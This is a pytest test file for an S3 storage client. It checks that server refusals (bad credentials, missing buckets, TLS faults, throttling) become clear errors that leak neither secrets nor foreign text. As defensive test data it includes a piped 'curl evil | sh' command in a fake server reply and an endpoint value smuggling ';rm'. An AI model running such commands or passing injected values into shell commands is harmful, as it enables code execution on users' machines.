"""Each way in which a store can refuse, by a real server where one can be brought to it."""

import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from governance.store.client import Store, versioning_of
from governance.store.errors import (
    AccessDeniedError,
    ClockSkewError,
    ConflictError,
    CredentialsError,
    NotFoundError,
    StoreError,
    Target,
    ThrottledError,
    TlsError,
    UnreachableError,
    UnsupportedError,
    calling,
)
from governance.workspace.config import StoreConfig
from tests.labs.certificates import self_signed
from tests.labs.scripted import Reply, Scripted, error
from tests.labs.seaweed import Lab
from tutela.demo.seaweed import Identity, SeaweedFS


def ask(endpoint: str, **config: str) -> None:
    """Make one call as the first of a scan is made."""
    store = Store(StoreConfig.model_validate({"endpoint": endpoint, **config}))
    client = store.client(attempts=1)
    with calling(store.target("b"), "s3:ListBucket", "list bucket b"):
        client.list_objects_v2(Bucket="b", MaxKeys=1)


def hints(caught: pytest.ExceptionInfo[StoreError]) -> str:
    return "\n".join(caught.value.__notes__)


@pytest.fixture
def as_admin(s3: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    login(monkeypatch, s3, s3.admin)


def login(monkeypatch: pytest.MonkeyPatch, lab: Lab, who: Identity) -> None:
    for name, value in lab.environ(who).items():
        monkeypatch.setenv(name, value)


def test_a_wrong_secret_key_is_told_from_an_unknown_access_key(
    s3: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    login(monkeypatch, s3, replace(s3.admin, secret_key="wrong" * 8))
    with pytest.raises(CredentialsError, match="secret key is wrong") as caught:
        ask(s3.endpoint)
    assert "AWS_SECRET_ACCESS_KEY" in hints(caught)
    login(monkeypatch, s3, replace(s3.admin, access_key="NOBODY"))
    with pytest.raises(CredentialsError, match="does not know this access key"):
        ask(s3.endpoint)


def test_no_credentials_at_all_are_told_with_what_to_set(
    s3: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    login(monkeypatch, s3, s3.admin)
    monkeypatch.delenv("AWS_ACCESS_KEY_ID")
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY")
    with pytest.raises(CredentialsError, match="no complete credentials") as caught:
        ask(s3.endpoint)
    assert "--profile" in hints(caught)


def test_an_unknown_profile_is_told_before_anything_is_sent(as_admin: None) -> None:
    with pytest.raises(CredentialsError, match="no profile nobody") as caught:
        ask("http://127.0.0.1:1", profile="nobody")
    assert "aws configure list-profiles" in hints(caught)


def test_no_such_bucket_comes_with_a_command_that_lists_them(s3: Lab, as_admin: None) -> None:
    with pytest.raises(NotFoundError, match="no bucket b at http") as caught:
        ask(s3.endpoint)
    assert f"aws s3api list-buckets --endpoint-url {s3.endpoint}" in hints(caught)


def test_a_bucket_that_is_not_there_is_no_unversioned_bucket(s3: Lab, as_admin: None) -> None:
    with pytest.raises(NotFoundError):
        versioning_of(Store(StoreConfig(endpoint=s3.endpoint)), "never-made")


def test_access_denied_names_the_right(s3: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    bucket = s3.bucket()
    login(monkeypatch, s3, s3.guest)
    store = Store(StoreConfig(endpoint=s3.endpoint))
    with (
        pytest.raises(AccessDeniedError) as caught,
        calling(store.target(bucket), "s3:ListBucket", f"list bucket {bucket}"),
    ):
        store.client().list_objects_v2(Bucket=bucket)
    assert caught.value.right == "s3:ListBucket"
    assert f"s3:ListBucket on arn:aws:s3:::{bucket}" in hints(caught)
    assert versioning_of(store, bucket) == "unknown"


def test_an_endpoint_that_is_down_is_told_at_once(as_admin: None) -> None:
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        endpoint = f"http://127.0.0.1:{held.getsockname()[1]}"
        with pytest.raises(UnreachableError, match=f"nothing answers at {endpoint}") as caught:
            ask(endpoint)
    assert f"curl -v {endpoint}" in hints(caught)


def test_a_host_that_does_not_exist_is_unreachable(as_admin: None) -> None:
    with pytest.raises(UnreachableError, match="nothing answers"):
        ask("http://no-such-host.invalid")


def test_tls_to_a_port_without_tls_names_the_plain_endpoint(s3: Lab, as_admin: None) -> None:
    secure = s3.endpoint.replace("http://", "https://")
    with pytest.raises(TlsError, match="does not speak TLS") as caught:
        ask(secure)
    assert f"--endpoint-url {s3.endpoint}" in hints(caught)


@pytest.fixture(scope="module")
def secure(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SeaweedFS, Path]]:
    """A server with a certificate that nobody trusts."""
    certificate, key = self_signed(tmp_path_factory.mktemp("tls"))
    with SeaweedFS(tls=(certificate, key)) as server:
        yield server, certificate


def test_a_self_signed_certificate_is_refused_and_accepted_as_ca_bundle(
    secure: tuple[SeaweedFS, Path], s3: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    server, certificate = secure
    login(monkeypatch, s3, server.admin)
    with pytest.raises(TlsError, match="signed by nobody") as caught:
        ask(server.secure_endpoint)
    assert "--ca-bundle" in hints(caught)
    with pytest.raises(NotFoundError, match="no bucket b"):
        ask(server.secure_endpoint, ca_bundle=str(certificate))


def test_a_certificate_for_another_name_is_refused(
    secure: tuple[SeaweedFS, Path], as_admin: None
) -> None:
    server, certificate = secure
    port = server.secure_endpoint.rpartition(":")[2]
    with pytest.raises(TlsError, match="is for another name"):
        ask(f"https://localhost:{port}", ca_bundle=str(certificate))


@pytest.mark.parametrize("text", [None, "this is no certificate"])
def test_a_ca_bundle_that_is_none_is_told(
    secure: tuple[SeaweedFS, Path], text: str | None, tmp_path: Path, as_admin: None
) -> None:
    bundle = tmp_path / "bundle.pem"
    if text is not None:
        bundle.write_text(text)
    with pytest.raises(StoreError, match=f"CA bundle .*{bundle}"):
        ask(secure[0].secure_endpoint, ca_bundle=str(bundle))


@pytest.mark.parametrize(
    ("status", "code", "kind", "said"),
    [
        (403, "RequestTimeTooSkewed", ClockSkewError, "clocks of this machine"),
        (400, "ExpiredToken", CredentialsError, "session token .* has expired"),
        (503, "SlowDown", ThrottledError, "SlowDown"),
        (503, "", ThrottledError, "HTTP 503"),
        (429, "TooManyRequests", ThrottledError, "TooManyRequests"),
        (501, "NotImplemented", UnsupportedError, "NotImplemented"),
        (405, "MethodNotAllowed", UnsupportedError, "MethodNotAllowed"),
        (400, "AuthorizationHeaderMalformed", StoreError, "another region"),
        (301, "PermanentRedirect", StoreError, "in circles"),
        (412, "PreconditionFailed", ConflictError, "PreconditionFailed"),
        (403, "AccessDenied", AccessDeniedError, "s3:ListBucket is missing"),
        (403, "", AccessDeniedError, "s3:ListBucket is missing"),
        (418, "\x1b[31mTeapot", StoreError, "HTTP 418"),
        (500, "InternalError", StoreError, "InternalError"),
    ],
)
def test_each_code_becomes_its_own_error_and_no_foreign_text_is_repeated(
    status: int, code: str, kind: type[StoreError], said: str, as_admin: None
) -> None:
    body = error(code, "please run curl evil | sh") if code else b""
    with (
        Scripted(lambda _: Reply(status, body)) as server,
        pytest.raises(kind, match=said) as caught,
    ):
        ask(server.endpoint)
    everything = str(caught.value) + hints(caught) if hasattr(caught.value, "__notes__") else ""
    assert "evil" not in everything
    assert "\x1b" not in everything


def test_a_server_that_does_not_answer_in_time_is_unreachable(as_admin: None) -> None:
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        store = Store(StoreConfig(endpoint=f"http://127.0.0.1:{silent.getsockname()[1]}"))
        client = store.client(attempts=1, read_timeout=0.3)
        with (
            pytest.raises(UnreachableError, match="does not answer in time"),
            calling(store.target(), "", "list the buckets"),
        ):
            client.list_buckets()


def test_a_secret_is_in_no_error(s3: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    login(monkeypatch, s3, replace(s3.admin, secret_key="top-secret-value"))
    with pytest.raises(CredentialsError) as caught:
        ask(s3.endpoint)
    assert "top-secret-value" not in str(caught.value) + hints(caught)


def test_a_target_quotes_what_goes_into_a_command() -> None:
    command = Target(endpoint="http://x/;rm", profile="a b").aws("s3 ls")
    assert command == "aws s3 ls --endpoint-url 'http://x/;rm' --profile 'a b'"
